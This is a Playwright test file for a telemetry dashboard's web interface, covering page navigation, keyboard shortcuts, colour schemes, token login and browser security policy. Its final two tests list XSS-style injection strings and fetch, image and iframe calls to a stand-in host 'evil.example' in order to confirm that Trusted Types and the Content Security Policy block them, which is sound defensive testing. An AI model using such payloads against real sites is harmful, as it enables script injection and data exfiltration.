"""The frame around all pages: the way to each, by mouse and by keys; colours; the door; and what is nowhere."""

import re
import subprocess
from collections.abc import Callable, Iterator
from typing import Final

import pytest
from playwright.sync_api import Browser, Error, Page, Route, expect

from tests.demonstrated import SETTINGS
from tests.running import AX, ENVIRON, Server, running
from tests.web.browsing import SIZES, Faults, opened

PAGES: Final = {
    "/": "Overview",
    "/calls": "LLM calls",
    "/runs": "Agents & workflows",
    "/conversations": "Conversations",
    "/voice": "Voice",
    "/traces": "Traces",
    "/logs": "Logs",
    "/explore": "Metrics",
    "/sql": "SQL",
    "/costs": "Costs & budgets",
    "/alerts": "Alerts",
    "/health": "Health",
}
KEYS: Final = dict(zip(PAGES, "ocwnvtlmsbah", strict=True))


def is_at(page: Page, path: str) -> None:
    """Waits until the page is the one of that path, and says so."""
    expect(page).to_have_url(re.compile(rf"^https?://[^/]+{path}(\?|$)"))
    expect(page).to_have_title(re.compile(rf"^(\(\d+\) )?{re.escape(PAGES[path])} · otel-ax$"))
    expect(page.get_by_role("heading", level=1)).to_have_text(PAGES[path])


def scheme(page: Page) -> str | None:
    """Which colours it has."""
    return page.locator("html").get_attribute("data-mantine-color-scheme")


# ── The way to each page ──────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("size", ["phone", pytest.param("desk", marks=pytest.mark.slow)])
def test_each_page_is_a_click_away(page: Page, size: str) -> None:
    width, height = SIZES[size]
    page.set_viewport_size({"width": width, "height": height})
    page.goto("/")
    for path, title in PAGES.items():
        if size == "phone":
            page.get_by_role("button", name="Pages").click()
        page.get_by_role("navigation", name="Pages").get_by_role("link", name=title).click()
        is_at(page, path)


def test_each_page_is_two_keys_away(page: Page) -> None:
    page.goto("/health")
    is_at(page, "/health")
    for path, key in KEYS.items():
        page.keyboard.press("g")
        page.keyboard.press(key)
        is_at(page, path)


@pytest.mark.slow
def test_each_page_is_what_its_address_says(page: Page) -> None:
    for path, name in PAGES.items():
        page.goto(path)
        is_at(page, path)
        expect(page.get_by_role("navigation", name="Pages").locator("[aria-current=page]")).to_contain_text(name)


def test_the_time_that_is_looked_at_comes_along(page: Page) -> None:
    page.goto("/traces?range=6h")
    is_at(page, "/traces")
    page.get_by_role("navigation", name="Pages").get_by_role("link", name="Logs").click()
    expect(page).to_have_url(re.compile(r"/logs\?range=6h$"))
    page.go_back()
    expect(page).to_have_url(re.compile(r"/traces\?range=6h$"))


def test_what_is_nowhere_says_so_and_leads_back(page: Page, examine: Callable[[Page, str], None]) -> None:
    page.goto("/nowhere/at/all")
    expect(page.get_by_text("There is no such page")).to_be_visible()
    examine(page, "nowhere")
    page.get_by_role("link", name="To the overview").click()
    is_at(page, "/")


def test_a_page_that_was_open_while_the_server_changed_goes_on(page: Page, faults: Faults) -> None:
    faults.forgive("404")
    page.clock.install()
    page.goto("/health")
    is_at(page, "/health")
    page.clock.run_for(60_000)
    gone: list[str] = []

    def once(route: Route) -> None:
        if gone:
            route.fallback()
        else:
            gone.append(route.request.url)
            route.fulfill(status=404)

    page.route("**/*.js", once)
    page.get_by_role("navigation", name="Pages").get_by_role("link", name="SQL").click()
    is_at(page, "/sql")
    assert len(gone) == 1


# ── Keys ──────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_keys_are_told_and_do_nothing_while_somebody_types(page: Page, axe: Callable[[Page], None]) -> None:
    page.goto("/health")
    is_at(page, "/health")
    page.keyboard.press("?")
    told = page.get_by_role("dialog", name="Keys")
    expect(told).to_be_visible()
    for title in PAGES.values():
        expect(told.get_by_text(title, exact=True)).to_be_visible()
    axe(page)
    page.keyboard.press("Escape")
    expect(told).to_be_hidden()
    page.goto("/traces")
    field = page.get_by_role("main").get_by_role("textbox").or_(page.get_by_role("main").get_by_role("combobox")).first
    field.click()
    page.keyboard.type("?")
    expect(told).to_be_hidden()


def test_who_has_no_mouse_gets_past_the_list_of_pages(page: Page) -> None:
    page.goto("/health")
    is_at(page, "/health")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to content")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("main")).to_be_focused()


def test_a_page_follows_until_it_is_told_to_stop(page: Page) -> None:
    page.goto("/")
    button = page.locator("button[data-connection]")
    expect(button).to_have_attribute("data-connection", "live")
    page.keyboard.press(".")
    expect(button).to_have_attribute("data-connection", "paused")
    button.click()
    expect(button).to_have_attribute("data-connection", "live")


# ── Colours ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_colours_are_the_systems_until_they_are_chosen(page: Page) -> None:
    page.emulate_media(color_scheme="dark")
    page.goto("/health")
    is_at(page, "/health")
    assert scheme(page) == "dark"
    page.emulate_media(color_scheme="light")
    expect(page.locator("html")).to_have_attribute("data-mantine-color-scheme", "light")
    page.get_by_role("button", name="Switch between light and dark").click()
    expect(page.locator("html")).to_have_attribute("data-mantine-color-scheme", "dark")
    page.reload()
    is_at(page, "/health")
    assert scheme(page) == "dark"


# ── The door ──────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def shut(tmp_path_factory: pytest.TempPathFactory, built: None) -> Iterator[tuple[Server, str]]:  # noqa: ARG001
    """A server that lets in nobody without a token, and one that may read."""
    data = tmp_path_factory.mktemp("shut") / "data"
    with running(data, environ=SETTINGS | {"AX_AUTH": "required"}) as server:
        command = [*AX, "token", "create", "looker", "--scope", "read", "--data", str(data)]
        made = subprocess.run(command, env=ENVIRON, capture_output=True, text=True, check=True, timeout=60)
        token = re.search(r"ax_\S+", made.stdout)
        assert token is not None, made.stdout
        yield server, token[0]


def test_a_token_opens_the_page_that_was_asked_for_and_is_kept_by_no_script(
    browser: Browser, shut: tuple[Server, str], faults: Faults, examine: Callable[[Page, str], None]
) -> None:
    server, token = shut
    faults.forgive("status of 401")
    with opened(browser, server.ui, faults) as page:
        page.goto("/health?range=6h")
        field = page.get_by_label("Token")
        expect(field).to_be_visible()
        examine(page, "login")
        field.fill("ax_none")
        field.press("Enter")
        expect(page.get_by_text("the token is unknown, was revoked or has expired")).to_be_visible()
        field.fill(token)
        field.press("Enter")
        expect(page.get_by_role("button", name="Logged in as looker")).to_be_visible()
        expect(page).to_have_url(f"{server.ui}/health?range=6h")
        told = page.evaluate("() => [document.cookie, JSON.stringify([localStorage, sessionStorage, history.state])]")
        assert [text for text in told if "ax_" in text] == []
        page.get_by_role("button", name="Logged in as looker").click()
        page.get_by_role("menuitem", name="Log out").click()
        expect(page.get_by_label("Token")).to_be_visible()
    assert faults.left() == []


# ── What got through would do nothing ─────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>')",
        "document.write('<script>alert(1)</script>')",
        "document.head.appendChild(document.createElement('script')).textContent = 'alert(1)'",
        "document.head.appendChild(document.createElement('script')).src = 'https://evil.example/'",
        "setTimeout('alert(1)')",
        "document.createElement('iframe').srcdoc = '<script>alert(1)</script>'",
        "new DOMParser().parseFromString('<b>', 'text/html')",
    ],
)
def test_no_text_becomes_html_or_script_whatever_a_script_of_ours_would_do(
    page: Page, faults: Faults, attempt: str
) -> None:
    page.goto("/health")
    is_at(page, "/health")
    faults.forgive("This document requires 'Trusted")
    faults.forgive("The policy default's")
    with pytest.raises(Error, match="Trusted"):
        page.evaluate(f"() => {{ {attempt} }}")


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://evil.example/')",
        "new Image().src = 'https://evil.example/x.png'",
        "document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))",
        "document.body.setAttribute('style', 'color: red')",
        "document.body.setAttribute('onclick', 'alert(1)')",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
    ],
)
def test_the_policy_of_the_page_lets_nothing_in_or_out(page: Page, faults: Faults, attempt: str) -> None:
    page.goto("/health")
    is_at(page, "/health")
    faults.forgive("evil.example")
    faults.forgive("Content Security Policy")
    faults.forgive("This document requires 'Trusted")
    refused = page.evaluate(
        f"""() => new Promise((done) => {{
            document.addEventListener("securitypolicyviolation", (event) => done(event.disposition));
            try {{ Promise.resolve({attempt}).catch(() => undefined); }} catch {{ done("enforce"); }}
            setTimeout(() => done("nothing was refused"), 5000);
        }})"""
    )
    assert refused == "enforce"
